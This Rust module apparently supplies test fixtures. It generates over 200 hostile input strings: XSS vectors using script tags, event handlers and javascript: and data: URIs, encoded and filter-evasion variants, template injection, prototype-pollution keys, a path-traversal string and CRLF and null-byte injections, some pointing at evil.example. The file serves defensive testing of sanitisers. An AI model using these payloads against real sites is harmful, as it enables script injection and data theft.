//! Texts that have broken others: markup, handlers, links, styles, encodings, templates.

/// Each of its own kind.
const KINDS: &[&str] = &[
    "<script>hacked()</script>",
    "<img src=x onerror=hacked()>",
    "<svg/onload=hacked()>",
    "<svg><animate onbegin=hacked() attributeName=x>",
    "<iframe srcdoc='<script>parent.hacked()</script>'>",
    "<details open ontoggle=hacked()>",
    "<video><source onerror=hacked()></video>",
    "<a href=javascript:hacked()>a</a>",
    "<math><mi xlink:href='data:x,<script>hacked()</script>'>",
    "<style>@import'//evil.example';</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>b</button></form>",
    "<object data='javascript:hacked()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<template><script>hacked()</script></template>",
    "<textarea></textarea><script>hacked()</script>",
    "</title></textarea></style></script><script>hacked()</script>",
    "--><script>hacked()</script>",
    "\" onfocus=hacked() autofocus x=\"",
    "' onmouseover='hacked()",
    "`-hacked()-`",
    "javascript:hacked()",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(hacked())//",
    "data:text/html,<script>hacked()</script>",
    "{{constructor.constructor('hacked()')()}}",
    "${hacked()}",
    "<%= hacked() %>",
    "%3Cscript%3Ehacked()%3C/script%3E",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "&#x3c;script&#x3e;hacked()&#x3c;/script&#x3e;",
    "\\u003cscript\\u003ehacked()\\u003c/script\\u003e",
    "<scr<script>ipt>hacked()</scr</script>ipt>",
    "<ScRiPt >hacked()</sCrIpT >",
    "<img src=\"x` `<script>hacked()</script>\"` `>",
    "<xss style='animation-name:x' onanimationstart=hacked()>",
    "<input autofocus onfocus=hacked()>",
    "<body onload=hacked()>",
    "#/default/runs?state=<script>hacked()</script>",
    "__proto__",
    "constructor",
    "toString",
    "\u{202e}tpircs\u{200b}<script>hacked()</script>",
    "\r\n\r\n<script>hacked()</script>",
    "../../../etc/passwd",
    "%00<script>hacked()</script>",
];

/// Elements that run a handler by themselves, or once they are touched; `#` is the handler.
const ELEMENTS: &[&str] = &[
    "<audio src=x #>",
    "<body #>",
    "<button #>b</button>",
    "<custom-tag contenteditable # tabindex=1>x",
    "<dialog open #>",
    "<embed src=x #>",
    "<frameset #>",
    "<image src=x #>",
    "<input type=image src=x #>",
    "<keygen autofocus #>",
    "<marquee #>x</marquee>",
    "<object data=x #></object>",
    "<select autofocus #>",
    "<svg><circle # r=9></svg>",
    "<table background=x #>",
    "<textarea autofocus #>",
    "<track src=x #>",
];

/// Handlers.
const HANDLERS: &[&str] = &[
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onpointerenter",
    "ontransitionend",
    "onbeforetoggle",
];

/// Ways to say where a link leads; each stands in an attribute of every element that leads
/// somewhere.
const PLACES: &[&str] = &[
    "javascript:hacked()",
    "java\tscript:hacked()",
    "  javascript:hacked()",
    "JaVaScRiPt:hacked()",
    "javascript&colon;hacked()",
    "&#106;avascript:hacked()",
    "vbscript:hacked()",
    "data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==",
];

/// Elements that lead somewhere; `#` is where.
const LEADERS: &[&str] = &[
    "<a href='#'>a</a>",
    "<area href='#'>",
    "<form action='#'><input type=submit>",
    "<iframe src='#'>",
];

/// All of them: more than 200.
pub(crate) fn vectors() -> Vec<String> {
    let mut all: Vec<String> = KINDS.iter().map(|text| (*text).to_owned()).collect();
    for element in ELEMENTS {
        let handlers = HANDLERS.iter();
        all.extend(handlers.map(|on| element.replace('#', &format!("{on}=hacked()"))));
    }
    for leader in LEADERS {
        all.extend(PLACES.iter().map(|place| leader.replace('#', place)));
    }
    all.extend(PLACES.iter().map(|place| (*place).to_owned()));
    all.sort();
    all.dedup();
    all
}

#[test]
fn o1_there_are_two_hundred_of_them() {
    let all = vectors();
    assert!(all.len() >= 200, "{}", all.len());
    assert!(
        all.iter().all(|text| text.len() < 200),
        "a name has to be shorter"
    );
}
